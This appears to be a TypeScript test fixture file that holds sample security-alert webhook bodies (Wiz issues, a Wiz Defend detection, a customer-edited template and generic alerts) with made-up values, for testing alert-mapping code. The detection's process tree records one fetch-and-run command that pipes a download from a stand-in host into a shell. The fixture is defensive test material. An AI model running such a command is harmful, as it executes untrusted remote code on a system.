/** Bodies in the vendors' real shapes, with made-up values: what the shipped mappings are tried on. */

/** An issue by the default template of a Wiz automation rule. */
export const WIZ_ISSUE = {
  trigger: {
    source: 'ISSUES',
    type: 'Created',
    ruleId: '1f9b2f60-7a54-4e0c-9d1e-54ab1c0f7d10',
    ruleName: 'Send open issues to the SOC',
  },
  issue: {
    id: '0c6f1f52-93b1-4f3c-8d4e-b6a1d5a50a17',
    status: 'OPEN',
    severity: 'HIGH',
    created: '2026-02-03T09:14:22.518Z',
    projects: 'Loyalty App, Cardholder Data, ',
  },
  resource: {
    id: 'arn:aws:ec2:eu-central-1:444455556666:instance/i-0fedcba9876543210',
    name: 'loyalty-api-3',
    type: 'ec2#instance',
    cloudPlatform: 'AWS',
    subscriptionId: '444455556666',
    subscriptionName: 'loyalty-prod',
    region: 'eu-central-1',
    status: 'Active',
    cloudProviderURL:
      'https://eu-central-1.console.aws.amazon.com/ec2/home#InstanceDetails:instanceId=i-0fedcba9876543210',
  },
  control: {
    id: 'wc-id-1177',
    name: 'Virtual machine open to the internet can read cardholder data',
    description: 'A machine that anybody can reach has a role that reads the buckets with payment data.',
    severity: 'HIGH',
    sourceCloudConfigurationRuleId: '',
    sourceCloudConfigurationRuleName: '',
  },
};

/** A detection of Wiz Defend: a fixed body, whose events point to actors and resources by id. */
export const WIZ_DETECTION = {
  trigger: {
    source: 'DETECTIONS',
    type: 'Created',
    ruleId: '5a0e6c1b-2f3d-4b7a-8c9d-0e1f2a3b4c5d',
    ruleName: 'Send detections to the SOC',
  },
  id: '9d7b1c33-5f0e-4a6b-9c8d-7e6f5a4b3c2d',
  threatId: '2b8a4d61-0c9f-4e7d-a1b2-c3d4e5f60718',
  threatURL: "https://app.wiz.io/threats#~(issue~'2b8a4d61-0c9f-4e7d-a1b2-c3d4e5f60718)",
  title: 'Download and start of a program in a container',
  description: 'A shell in the checkout container fetched a program from an unknown host and started it.',
  severity: 'CRITICAL',
  createdAt: '2026-02-03T10:02:59Z',
  tdrId: 'wd-2204',
  tdrSource: 'WIZ_SENSOR',
  mitreTactics: ['TA0002', 'TA0011'],
  mitreTechniques: ['T1059.004', 'T1105'],
  cloudAccounts: [{ id: 'account-1', externalId: '444455556666', cloudPlatform: 'AWS' }],
  cloudOrganizations: [],
  timeframe: { start: '2026-02-03T10:00:10Z', end: '2026-02-03T10:02:41Z' },
  actors: [
    {
      id: 'actor-1',
      externalId: 'AROADOCUMENTATION',
      name: 'checkout-role',
      type: 'SERVICE_ACCOUNT',
      nativeType: 'role',
    },
    { id: 'actor-2', externalId: 'AIDADOCUMENTATION', name: '', type: 'USER_ACCOUNT', nativeType: 'user' },
  ],
  primaryActor: { id: 'actor-1' },
  resources: [
    {
      id: 'resource-1',
      externalId: 'node/worker-2',
      name: 'worker-2',
      type: 'VIRTUAL_MACHINE',
      nativeType: 'node',
      region: 'eu-central-1',
    },
    {
      id: 'resource-2',
      externalId: 'pod/checkout-5',
      name: 'checkout-5',
      type: 'CONTAINER',
      nativeType: 'pod',
      region: 'eu-central-1',
    },
  ],
  primaryResource: { id: 'resource-2' },
  triggeringEventsCount: 1,
  triggeringEvents: [
    {
      id: 'event-1',
      name: 'ProcessExecuted',
      description: 'A process was started.',
      eventTime: '2026-02-03T10:02:40Z',
      origin: 'WIZ_SENSOR',
      category: 'Execution',
      status: 'Success',
      source: 'runtime',
      cloudPlatform: 'AWS',
      actor: { id: 'actor-1' },
      actorIP: '203.0.113.140',
      actorIPMeta: {
        autonomousSystemNumber: 64511,
        autonomousSystemOrganization: 'Sample Transit',
        country: 'NL',
        isForeign: true,
        reputation: 'MALICIOUS',
      },
      resources: [{ id: 'resource-2' }],
      runtimeDetails: {
        processTree: [
          {
            id: 'process-1',
            command: 'sh -c "wget -qO- http://drop.example/agent | sh"',
            path: '/bin/sh',
            hash: '356a192b7913b04c54574d18c28d46e6395428ab',
            size: 125688,
            userId: '0',
            username: 'root',
            executionTime: '2026-02-03T10:02:40Z',
            container: { id: 'container-1', name: 'checkout', imageExternalId: 'sha256:0000' },
          },
        ],
      },
    },
  ],
};

/** A template that a customer made: no prefix, an address, a note, projects as a list, and empty fields. */
export const WIZ_EDITED_TEMPLATE = {
  trigger: { source: 'ISSUE', type: 'Resolved', ruleName: 'Everything to the SOC' },
  id: 'b3d9e1f0-6a7c-4b5d-8e2f-1a0b9c8d7e6f',
  status: 'Resolved',
  severity: 'medium',
  created: '2026-02-01T00:00:00Z',
  resolvedAt: '2026-02-04T12:00:00Z',
  url: "https://app.wiz.io/issues#~(issue~'b3d9e1f0-6a7c-4b5d-8e2f-1a0b9c8d7e6f)",
  notes: [{ text: 'The bucket is private now.', user: { name: 'Bo' } }, { text: '' }],
  resolutionNote: 'Fixed by the platform team.',
  changedFields: [{ name: 'status', previousValuePrettified: 'Open', newValuePrettified: 'Resolved' }],
  projects: [{ name: 'Loyalty App' }, { name: '' }],
  resource: { name: 'loyalty-exports', type: 'bucket', cloudPlatform: 'AWS', region: '', cloudProviderURL: '' },
  control: { id: 'wc-id-2', name: 'Bucket can be read by anybody', description: '' },
};

/** An alert with the plain names. */
export const GENERIC_ALERT = {
  id: 'alert-17',
  title: 'Many failed sign-ins at the till server',
  severity: 'High',
  description: 'Forty failed sign-ins within a minute.',
  status: 'open',
  category: 'Identity & Access',
  url: 'https://alerts.example/alert-17',
  tags: ['till', 'store-12'],
  timestamp: 1770112800,
  techniques: ['T1110'],
  observables: [{ type: 'ipv4', value: '198.51.100.23', role: 'implicated' }, 'drop.example'],
  customFields: { store: '12', count: 40 },
};

/** The same by a tool that wraps its alerts and has other names. */
export const GENERIC_WRAPPED = {
  version: 2,
  alert: {
    alertId: 991,
    name: 'Disk almost full',
    level: 'warning',
    message: 'Only 2 % are left on /var.',
    link: 'https://monitor.example/a/991',
    tags: 'disk, capacity',
    indicators: [{ type: 'host', indicator: 'till-12.corp.example' }],
  },
};
